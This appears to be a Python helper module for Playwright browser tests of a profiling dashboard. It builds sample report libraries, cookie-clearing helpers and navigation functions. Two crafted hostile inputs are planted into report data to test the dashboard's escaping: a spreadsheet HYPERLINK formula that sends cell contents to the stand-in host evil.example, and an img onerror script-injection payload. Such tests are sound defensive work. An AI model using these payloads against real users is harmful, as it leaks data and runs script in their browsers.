"""The library of most browser tests: samples and made-up reports; and how to turn to a page."""

import shutil
import sqlite3
from contextlib import closing
from dataclasses import replace
from pathlib import Path

from playwright.sync_api import BrowserContext, Locator, Page, ViewportSize, expect

from bench.pages import turn_to, wait_at_rest
from profiledb.library.catalog import read_clock
from profiledb.library.library import Library
from tests.conftest import ROOT, SAMPLES, ingest_files, put_together
from tests.support import exports

TRAINING, INFERENCE = "transformer_training.nsys-rep", "transformer_inference.nsys-rep"
STEPS, STARVED, TASKS = "transformer_steps.nsys-rep", "dataloader_starved.nsys-rep", "tasks.nsys-rep"
ATTENTION, ENERGY, PAIR, PARALLEL = "attention.nsys-rep", "energy.nsys-rep", "kernels.nsys-rep", "ddp_1.sqlite"
SYSTEMS = (TRAINING, INFERENCE, STEPS, STARVED, TASKS, ATTENTION, ENERGY, PAIR)
MEASURED, LAUNCHES = "transformer_training.ncu-rep", "kernels.ncu-rep"
PROTON = "run.hatchet.gz"
NAMED, HOSTILE, FEW, BARE = "formula.sqlite", "hostile.sqlite", "few.sqlite", "without_ranges.sqlite"
"""Made: a kernel has the name of a formula; it has one of HTML; next to nothing; steps without their ranges."""

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
VIEWPORT: ViewportSize = {"width": 1440, "height": 1000}
"""Wide enough for everything."""
HEADING = '[data-testid="stHeading"]'
"""Every page has one, once it is drawn."""

TOP = """UPDATE StringIds SET value = ? WHERE id = (
  SELECT shortName FROM CUPTI_ACTIVITY_KIND_KERNEL GROUP BY 1 ORDER BY sum(end - start) DESC LIMIT 1)"""
"""Names the kernel that takes most time."""
HTML = "<img src=x onerror=\"document.title='taken'\">" + "x" * 60


def build(folder: Path, samples: Library) -> None:
    """Make ``folder/inbox`` and ``folder/library`` with the reports above from the samples' library."""
    made, compute, parallel = (folder / name for name in ("made", "compute", "parallel"))
    for part in (made, compute, parallel):
        part.mkdir()
    ingest_files(made, write(made))
    ingest_files(compute, [SAMPLES / MEASURED, SAMPLES / LAUNCHES, ROOT / "tests/data/proton" / PROTON])
    ingest_files(parallel, [*SAMPLES.glob("ddp/ddp_1.*"), *SAMPLES.glob("ddp/ddp_strong_2_*")])
    put_together(folder, [samples.folder.parent], names=SYSTEMS)
    put_together(folder, [made, compute, parallel])
    library = Library(folder / "library")
    library.link(library.find(TRAINING).id, library.find(MEASURED).id)
    library.catalog.add_report(replace(library.find(FEW), ingested_at=read_clock()))  # what a page without a link shows


def write(folder: Path) -> list[Path]:
    """The exports of the reports that are made."""
    names = {"StringIds": (("id", "value"), [(at, HTML) for at in (1, 2, 3)])}
    kernel = exports.kernels(exports.kernel(1_000, 2_000))
    return [
        edited("transformer_training.sqlite", folder / NAMED, TOP, FORMULA),
        edited("transformer_steps.sqlite", folder / BARE, "DELETE FROM NVTX_EVENTS"),
        exports.write(folder / HOSTILE, kernel | names),
        exports.write(folder / FEW, kernel),
    ]


def edited(sample: str, path: Path, statement: str, *values: str) -> Path:
    """A sample's export under another name, changed by an SQL statement."""
    shutil.copy(SAMPLES / sample, path)
    with closing(sqlite3.connect(path)) as db, db:
        db.execute(statement, values)
    return path


def stranger(context: BrowserContext) -> Page:
    """A page of somebody who has not been here."""
    page = context.new_page()
    forget(context, page)
    return page


def forget(context: BrowserContext, page: Page) -> None:
    """Takes cookies, permissions and all that is stored away; ``page`` is one of the browser's pages."""
    kept = "cookies,local_storage,indexeddb,service_workers,websql,cache_storage"
    session = context.new_cdp_session(page)
    session.send("Storage.clearDataForOrigin", {"origin": "*", "storageTypes": kept})
    session.detach()
    context.clear_cookies()
    context.clear_permissions()


def show(page: Page, address: str, path: str) -> None:
    """Has a browser's page show a page of the dashboard: within its document where one is open, as people do.

    Not for one that is drawn in no time: nobody may see that the script ran, and this waits for it.
    """
    if page.url.startswith(f"{address}/") and page.url != address + path:
        wait_at_rest(page, HEADING)  # a run that is replaced by the next one has no end of its own
        turn_to(page, path, HEADING)
    else:
        page.goto(address + path)
        wait_at_rest(page, HEADING)


def click_table(table: Locator, x: float, y: float) -> None:
    """Click into a table, in pixels from its corner, once it is drawn: Streamlit loses a click before that."""
    expect(table.locator('[role="gridcell"]').first).to_be_attached()
    table.click(position={"x": x, "y": y})
